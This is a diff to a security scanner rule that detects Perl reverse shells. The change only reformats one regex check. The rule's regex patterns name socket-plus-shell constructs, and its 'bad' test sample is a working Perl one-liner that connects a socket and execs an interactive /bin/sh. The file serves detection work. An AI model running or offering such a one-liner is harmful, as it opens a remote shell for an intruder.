@@ -12,7 +12,14 @@ RULE = ScannerRule(
     check=(
         Pattern(r"\bperl\b.*socket.*\b(?:exec|system)\b.*/(?:ba|z|da)?sh\b"),
         Pattern(r"\bperl\b.*\bIO(?:::Socket)?\b.*\bINET\b.*(?:\b(?:exec|system)\b|system\$_)"),
-        Nearby((r"\buse\s+(?:IO::)?Socket\b", r"\b(?:connect|INET)\b", r"\b(?:exec|system)\b\W{0,4}(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh\b"), within=20),
+        Nearby(
+            (
+                r"\buse\s+(?:IO::)?Socket\b",
+                r"\b(?:connect|INET)\b",
+                r"\b(?:exec|system)\b\W{0,4}(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh\b",
+            ),
+            within=20,
+        ),
     ),
     bad=(
         """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'""",
